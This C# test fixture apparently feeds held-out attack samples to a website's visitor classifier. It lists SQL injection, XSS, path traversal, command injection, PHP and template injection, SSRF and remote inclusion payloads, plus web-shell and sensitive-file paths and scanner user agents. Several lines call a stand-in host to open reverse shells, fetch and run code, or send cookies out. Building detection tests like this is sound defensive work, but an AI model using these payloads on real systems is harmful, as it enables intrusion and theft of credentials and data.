using SopWebsite.Visitors;

namespace SopWebsite.Tests.Visitors;

/// <summary>
/// Attacks written down after the rules, from what such attacks are like and not from what the rules look for. At first sight nine of ten of each
/// kind were flagged but for remote inclusion (81 %) and probing (71 %); the general faults that these two showed were mended then, so for
/// them the set is no longer unseen. None of the attacks was changed.
/// </summary>
internal static class UnseenAttacks
{
    /// <summary>Values of a parameter.</summary>
    public static readonly (VisitorCategory Category, string[] Payloads)[] Values =
    [
        (VisitorCategory.SqlInjection,
        [
            "7 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM information_schema.PLUGINS GROUP BY x)a)",
            "3) OR SLEEP(4)='", "x' UNION SELECT login,pass FROM akun-- -",
            "9999 UNION ALL SELECT 'a',NULL,@@hostname", "1' AND SUBSTR((SELECT nama FROM pegawai LIMIT 0,1),1,1)='b", "5' ORDER BY 7-- x",
            "2 OR 2>1", "') OR 8=8 LIMIT 1-- ", "1;UPDATE menu SET judul='x' WHERE id=1",
            "1' AND ELT(3=3,SLEEP(2)) AND 'k'='k", "(CASE WHEN (4=4) THEN 4 ELSE 4*(SELECT 4 UNION SELECT 5) END)",
            "1'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),5)||'", "a'; EXEC xp_cmdshell('net view')--", "1' AND GTID_SUBSET(USER(),1)#",
            "0' DIV 1 OR '1", "10 PROCEDURE ANALYSE(EXTRACTVALUE(5,CONCAT(0x5c,@@version)),1)",
        ]),
        (VisitorCategory.CrossSiteScripting,
        [
            "<ScRiPt src=//198.51.100.3/k.js></sCrIpT>", "\"><svg><animate onbegin=confirm(9) attributeName=x>",
            "'><b onpointerenter=prompt(2)>x</b>", "<iframe srcdoc='<img src=1 onerror=parent.alert(3)>'>",
            "<form><button formaction=javascript:alert(4)>x",
            "`-confirm(5)-`", "\";top['al'+'ert'](6);//", "<img src onerror=import('//198.51.100.3/m.js')>",
            "<math><a xlink:href=javascript:alert(7)>k", "<input value=x onblur=eval(name) autofocus>",
            "</textarea><script>fetch('//198.51.100.3/?'+document.cookie)</script>",
            "javas\tcript:alert(8)", "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(9)>",
            "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "' autofocus onfocus='location=name",
            "<details/open/ontoggle=self['confirm'](1)>",
        ]),
        (VisitorCategory.Traversal,
        [
            "../../../../../../etc/nginx/nginx.conf", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config", "/var/log/auth.log",
            "....//....//....//....//proc/self/status", "php://filter/read=string.rot13/resource=../config/database.php", "/etc/mysql/my.cnf",
            "%2e%2e%2f%2e%2e%2fconfiguration.php", "../../../../home/situs/.ssh/id_rsa", "C:\\xampp\\apache\\logs\\access.log",
            "phar://../images/a.jpg/x", "../../../../../../../../windows/win.ini%00.html", "file:///proc/version",
            "/usr/local/apache2/conf/httpd.conf",
            "..%5c..%5c..%5cboot.ini", "compress.zlib:///etc/group", "/../../../../../opt/lampp/etc/php.ini",
        ]),
        (VisitorCategory.CommandExecution,
        [
            "8.8.8.8;cat /etc/issue", "x|nc 198.51.100.3 9001 -e /bin/bash", "a&&wget -q -O- http://198.51.100.3/k|bash", "$(ping -c 3 198.51.100.3)",
            "`curl 198.51.100.3`", "1|powershell -nop -w hidden -c IEX", "127.0.0.1 & dir C:\\", ";python3 -c 'import os'",
            "|| nslookup k.example.net", ";ls${IFS}-la", "a;chmod 777 /tmp/k;/tmp/k", "x';uname -r;'", "|/usr/bin/id",
            ";bash -i >& /dev/tcp/198.51.100.3/443 0>&1", "1;echo${IFS}aGFs|base64${IFS}-d|sh",
            "& certutil -urlcache -f http://198.51.100.3/k.exe k.exe",
        ]),
        (VisitorCategory.PhpInjection,
        [
            "<?php passthru($_REQUEST[0]);?>", "phpinfo();", "${eval($_GET[k])}", "assert(base64_decode('cGhwaW5mbygp'))",
            "O:14:\"JLoaderHandler\":1:{s:4:\"path\";s:3:\"k.x\";}", "a:2:{i:0;O:8:\"WP_Theme\":0:{}i:1;s:1:\"x\";}",
            "');file_put_contents('k.php','<?=1');//",
            "{${system('w')}}", "<?=`$_GET[1]`?>", "array_map('system',array('id'))", "call_user_func_array('exec',['id'])", "1;print(md5(9));",
            "preg_replace('/x/e','phpinfo()','x')", "include('php://input');", "@eval(stripslashes($_POST[z0]));",
            "create_function('','system(id);')",
        ]),
        (VisitorCategory.CodeInjection,
        [
            "${jndi:dns://198.51.100.3/k}", "${${env:X:-j}ndi${env:X:-:}ldap://k/x}", "{{9*9}}", "{{config.items()}}",
            "{{''.__class__.__base__.__subclasses__()}}", "${T(java.lang.System).getenv()}", "<%= File.read('/etc/hosts') %>", "#{8*8}",
            "{%for c in [].__class__.__base__.__subclasses__()%}{%endfor%}",
            "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "<#assign k=\"freemarker.template.utility.Execute\"?new()>", "{{_self.env.registerUndefinedFilterCallback('exec')}}",
            "__import__('os').popen('id').read()",
            "{{constructor.constructor('return process')()}}", "<!--#exec cmd=\"id\" -->",
        ]),
        (VisitorCategory.ServerSideRequest,
        [
            "http://127.0.0.1:8080/manager", "http://localhost/server-status", "http://169.254.169.254/latest/meta-data/iam/", "http://[::1]:25/",
            "http://192.168.1.1/admin", "http://10.0.0.5:9200/_cat", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats",
            "http://0x7f.1/", "http://2130706433:80/", "http://metadata.google.internal/computeMetadata/v1/", "http://127.0.0.1.nip.io/", "http://0/",
            "ldap://127.0.0.1:389/x", "http://user@127.0.0.1/", "http://100.100.100.200/latest/meta-data/",
        ]),
        (VisitorCategory.RemoteInclusion,
        [
            "http://198.51.100.3/k.txt", "http://198.51.100.3/k.txt?", "https://k.example.net/shell.php?", "ftp://198.51.100.3/x",
            "http://k.example.net/c99.txt%00", "//198.51.100.3/x.php", "https://198.51.100.3/a.gif?cmd=id", "http://k.example.net/r.inc",
            "http://k.example.net/x.log?", "smb://198.51.100.3/k/x.php",
            "http://198.51.100.3:8000/p.sh", "https://k.example.net/evil.dat?", "http://k.example.net/i.jpg?", "ftps://k.example.net/x.txt",
            "HTTP://198.51.100.3/K", "http://k.example.net/cmd.php#",
        ]),
    ];

    /// <summary>Whole targets.</summary>
    public static readonly (VisitorCategory Category, string[] Targets)[] Whole =
    [
        (VisitorCategory.WebShell,
        [
            "/wp-content/plugins/akismet/k99.php", "/images/banners/q.php", "/wp-content/uploads/2025/03/radio.php", "/wp-includes/images/about.php",
            "/templates/beez3/error2.php", "/media/com_x/lol.php7", "/.well-known/pki-validation/x.php", "/tmp/sess.phtml", "/cmd.aspx",
            "/shell.jspx",
            "/wsoyanzz.php", "/minishell.php", "/uploads/foto.php.jpg", "/b374k-mini.php", "/alfa-shell.php", "/k.php?act=cmd&d=/home",
            "/wp-admin/css/colors/blue/uwu.php", "/wp-content/themes/x/404.php", "/images/stories/0day.php", "/up.phtml", "/r57shell.php",
            "/administrator/backdoor.php", "/bypass403.php", "/indoxploit2.php",
            "/wp-content/mu-plugins-old/index.php.bak.php", "/x7x8.php", "/zz12.php", "/wp-kkk.php", "/cgi-bin/webshell.pl",
            "/language/en-GB/hack.php", "/logs/error.php", "/priv8mailer.php", "/tinyfilemanager.php", "/symlink404.php", "/wp-content/upgrade/k.php",
            "/css/a.php", "/fonts/w.php", "/uploader_by_x.php", "/webadmin.php5", "/haxor1337.php",
            "/gallery/img.php%20", "/doc.asp;.jpg",
        ]),
        (VisitorCategory.SensitiveFile,
        [
            "/.env.local", "/laravel/.env", "/.git/index", "/.svn/wc.db", "/.hg/store", "/configuration.php-old", "/configuration.php.swp",
            "/wp-config.php_bak", "/wp-config.php.txt", "/config.php.orig", "/backup-2025-01-02.tar.gz", "/pn-contoh.go.id.zip", "/sipp.sql",
            "/db_backup.sql.gz", "/dump.rar",
            "/.aws/config", "/.ssh/id_ed25519", "/.bash_history", "/.npmrc", "/.dockerenv", "/.vscode/settings.json", "/sftp.json", "/web.config.bak",
            "/.htpasswd.bak", "/error_log.1", "/storage/logs/laravel.log", "/debug.log", "/credentials.json", "/secrets.yml", "/server.key",
            "/privkey.pem",
            "/api/index.php/v1/users?public=true", "/administrator/components/com_akeeba/backup/site.jpa", "/id_rsa.bak", "/database.sqlite",
            "/users.csv", "/docker-compose.prod.yml", "/phpinfo.php.bak", "/.config/gcloud", "/old/wp-config.php.save", "/koneksi.php.bak",
            "/.mysql_history",
        ]),
        (VisitorCategory.Gambling,
        [
            "/slot-gacor-hari-ini/", "/slot88-login/", "/situs-slot-resmi.html", "/agen-sbobet/", "/bandar-togel-hk/", "/judi-bola-online/",
            "/rtp-slot-live/", "/maxwin-x500/", "/pragmatic-play-demo/", "/mahjong-ways-3/", "/scatter-hitam-mahjong/", "/gates-of-olympus-1000/",
            "/starlight-princess/", "/poker-online-terpercaya/",
            "/domino-qq/", "/live-casino-online/", "/togel-sgp/", "/data-hk-2026/", "/prediksi-sdy/", "/toto-macau-4d/", "/idn-poker/",
            "/joker123-apk/", "/sv388-sabung-ayam/", "/mix-parlay-malam-ini/", "/bonus-new-member-100/", "/deposit-pulsa-tanpa-potongan/",
            "/link-alternatif-hoki88/", "/dewatogel88/",
            "/rajaslot777/", "/akun-pro-thailand/", "/bocoran-slot-malam/", "/demo-slot-pg/", "/pkv-games/", "/bandarq-online/",
            "/ceme-keliling-online/", "/baccarat-live/", "/sweet-bonanza-xmas/", "/wild-west-gold/", "/slot-dana-5000/", "/slot-qris/",
            "/?slot=gacor77", "/kakek-zeus-maxwin/",
        ]),
        (VisitorCategory.Probing,
        [
            "/phpmyadmin2/index.php", "/pma/", "/mysqladmin/", "/adminer.php", "/phpinfo.php", "/info.php", "/server-status", "/wp-admin/install.php",
            "/installation/index.php", "/wordpress/wp-login.php", "/wp/wp-admin/", "/blog/wp-includes/wlwmanifest.xml", "/xmlrpc.php?rsd",
            "/joomla/administrator/", "/?author=2",
            "/wp-json/wp/v2/users/1", "/administrator/manifests/files/joomla.xml", "/components/com_fabrik/fabrik.xml",
            "/wp-content/plugins/revslider/readme.txt", "/language/en-GB/en-GB.xml", "/htaccess.txt", "/web.config.txt", "/README.txt",
            "/CHANGELOG.txt", "/index.php?option=com_jce", "/telescope/requests", "/_profiler/phpinfo",
            "/webdav/", "/cpanel", "/plesk-stat/", "/swagger-ui.html", "/graphql", "/adminpanel.php", "/admin_login.php",
            "/sites/default/settings.php", "/user/login", "/old/wp-admin/setup-config.php", "/test.php", "/php-info.php", "/dbadmin/", "/elmah.axd",
            "/trace.axd",
        ]),
    ];

    /// <summary>User agents.</summary>
    public static readonly string[] Agents =
    [
        "sqlmap/1.9", "Nikto", "Nmap Scripting Engine; https://nmap.org/book/nse.html", "masscan/1.3", "zgrab/0.x",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3", "OWASP Joomla! Vulnerability Scanner", "DirBuster-1.0",
        "gobuster/3.6", "feroxbuster/2", "ffuf/2.1", "Wfuzz/3.1",
        "Acunetix-Product", "Netsparker", "Nessus SOAP", "OpenVAS", "Arachni/v1", "w3af.org", "Havij", "Hydra", "ZAP/2 OWASP", "WhatWeb/0.5",
        "commix/3", "XSStrike", "dalfox", "httpx - Open-source project", "l9explore/1.2", "ZmEu", "Morfeus", "skipfish/2", "BurpSuite", "Jorgee",
        "Metasploit", "dirsearch", "CMSmap", "droopescan",
        "vulnerability-scanner/1", "pentest-tools.com", "Detectify", "CensysInspect/1.1", "Expanse, a Palo Alto Networks company",
    ];

    /// <summary>Methods.</summary>
    public static readonly string[] Methods =
        [
            "TRACE", "TRACK", "DEBUG", "CONNECT", "PUT", "DELETE", "PROPFIND", "PROPPATCH", "MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK", "SEARCH",
            "PATCH", "PURGE", "SUBSCRIBE", "NOTIFY", "REPORT", "MERGE",
        ];
}
